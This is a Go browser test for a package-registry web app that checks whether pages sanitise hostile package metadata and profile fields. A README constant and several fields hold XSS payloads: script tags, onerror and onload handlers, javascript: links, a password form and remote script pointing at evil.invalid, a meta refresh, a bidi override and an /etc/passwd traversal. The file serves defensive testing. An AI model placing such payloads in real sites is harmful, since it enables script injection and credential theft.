//go:build browser

package browser

import (
	"encoding/json/v2"
	"fmt"
	"strings"
	"testing"
	"testing/fstest"

	"terrarium/internal/account"
	"terrarium/internal/apptest"
	"terrarium/internal/condatest"
	"terrarium/internal/registry"
)

// TestHostile looks at packages that mean harm, or are only very long: no script
// of theirs runs, nothing is loaded from elsewhere, nothing sticks out.
func TestHostile(t *testing.T) {
	app := apptest.New(t)
	ana := app.User(t, "ana")
	long := strings.Repeat("longest-name-", 4) + "of-all-names"
	specs := []condatest.Spec{
		{Name: "evil", Summary: `<img src=x onerror=alert(1)>"><script>alert(2)</script>`, License: `"><svg onload=alert(3)>`, README: hostileReadme, Depends: []string{`a-b >=1`}},
		{Name: long, Version: strings.Repeat("1.2.3.", 7) + "4", Build: strings.Repeat("h0123456789_", 4) + "0", Subdir: "linux-64", Summary: strings.Repeat("unbroken", 60), License: strings.Repeat("LicenseRef", 12)},
		{Name: "rtl", Summary: "חבילה שקוראת נתוני רשת \u202eylruc eman", README: "# שלום\n\nهذا نص من اليمين إلى اليسار مع `code` داخل السطر.\n\n| عمود | שורה |\n|---|---|\n| ١ | ٢ |\n"},
	}
	for _, s := range specs {
		ana.Upload(t, "ana", s, "")
	}
	bulk := app.User(t, "bulk")
	records(t, app, bulk, 500)
	if err := app.Accounts.UpdateProfile(t.Context(), ana.Actor(t), "ana", account.Profile{
		FullName: strings.Repeat("W", 60), Description: "<b onmouseover=alert(4)>\u202e" + strings.Repeat("m", 180), Location: "<script>alert(5)</script>",
	}); err != nil {
		t.Fatal(err)
	}

	c := launch(t, app)
	b, stranger := c.open(t, ana), c.open(t, nil)
	axe := readAxe(t)
	file := "/ana/" + long + "/files/linux-64/" + specs[1].FileName()
	for _, path := range []string{
		"/ana", "/ana/evil?readme=all", "/ana/" + long, "/ana/" + long + "/releases", "/ana/" + long + "/files", file, file + "/delete", "/ana/rtl", "/ana/-/channels/main", "/dashboard",
		"/search?q=" + "%3Cscript%3Ealert(6)%3C%2Fscript%3E", "/search?owner=ana", "/login?next=%22%3E%3Cscript%3Ealert(7)%3C%2Fscript%3E", "/%3Cscript%3Ealert(8)%3C%2Fscript%3E",
		"/bulk/many/releases", "/bulk/many/files", "/bulk/many", "/bulk",
	} {
		t.Run(path, func(t *testing.T) {
			status := 0
			if strings.HasPrefix(path, "/%3C") {
				status = 404
			}
			if path == "/login?next=%22%3E%3Cscript%3Ealert(7)%3C%2Fscript%3E" {
				b = stranger // whoever is signed in is sent on
			}
			b.inspect(t, look{path, path, "", status}, axe)
			if n := eval[int](b, `[...document.querySelectorAll("script")].filter((s) => !s.src.startsWith(location.origin + "/assets/")).length`); n > 0 {
				t.Errorf("%d scripts are not ours", n)
			}
			outside := eval[[]string](b, `performance.getEntriesByType("resource").map((e) => e.name).filter((n) => !n.startsWith(location.origin))`)
			if len(outside) > 0 {
				t.Errorf("the page loads %v", outside)
			}
			bad := eval[[]string](b, `[...document.querySelectorAll("*")].flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name) || /^\s*(javascript|data|vbscript):/i.test(a.value)).map((a) => e.tagName + " " + a.name + "=" + a.value))`)
			if len(bad) > 0 {
				t.Errorf("attributes that run something: %v", bad)
			}
		})
	}
}

// records imports so many builds of one package.
func records(t *testing.T, app *apptest.App, who *apptest.Person, n int) {
	t.Helper()
	packages := map[string]any{}
	for i := range n {
		version := fmt.Sprintf("%d.%d", i/20, i%20)
		packages["many-"+version+"-0.conda"] = map[string]any{
			"name": "many", "version": version, "build": "0", "build_number": 0, "depends": []string{}, "subdir": "linux-64",
			"md5": fmt.Sprintf("%032x", i), "sha256": fmt.Sprintf("%064x", i), "size": 1000 + i, "timestamp": 1700000000000 + int64(i)*86_400_000,
		}
	}
	doc, err := json.Marshal(map[string]any{"info": map[string]any{"subdir": "linux-64"}, "packages": map[string]any{}, "packages.conda": packages})
	if err != nil {
		t.Fatal(err)
	}
	source := registry.ImportSource{Files: fstest.MapFS{"linux-64/repodata.json": {Data: doc}}, MetadataOnly: true, BaseURL: "https://channel.invalid/", Name: "test"}
	if _, err := app.Registry.Import(t.Context(), who.Actor(t), who.Name, "main", source, func(string, int) {}); err != nil {
		t.Fatal(err)
	}
}

const hostileReadme = `# <script>alert("h1")</script>

<script src="https://evil.invalid/x.js"></script>
<iframe src="https://evil.invalid/"></iframe>
<img src="https://evil.invalid/pixel.png" onerror="alert(1)">
<svg onload="alert(2)"><a xlink:href="javascript:alert(3)">x</a></svg>
<form action="https://evil.invalid/"><input name="password"><button formaction="javascript:alert(4)">Sign in</button></form>
<style>body { display: none }</style>
<a href="javascript:alert(5)" style="position:fixed;inset:0" onclick="alert(6)">click</a>
<base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/">
<math><mtext><table><mglyph><style><img src=x onerror=alert(7)></style></mglyph></table></mtext></math>
<details ontoggle=alert(8) open><summary>open</summary></details>
<div id="main" class="skip header" name="password">same names as the page's own</div>

[click](javascript:alert(9)) ![pixel](https://evil.invalid/pixel.png) [data](data:text/html,<script>alert(10)</script>) ![local](../../../etc/passwd) <javascript:alert(11)>

` + "```html\n<script>alert(12)</script>\n```" + `

` + "`<img src=x onerror=alert(13)>`" + ` aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa

| a | b | c | d | e | f | g | h |
|---|---|---|---|---|---|---|---|
| 1111111111111111 | 2222222222222222 | 3333333333333333 | 4444444444444444 | 5555555555555555 | 6666666666666666 | 7777777777777777 | 8888888888888888 |
`
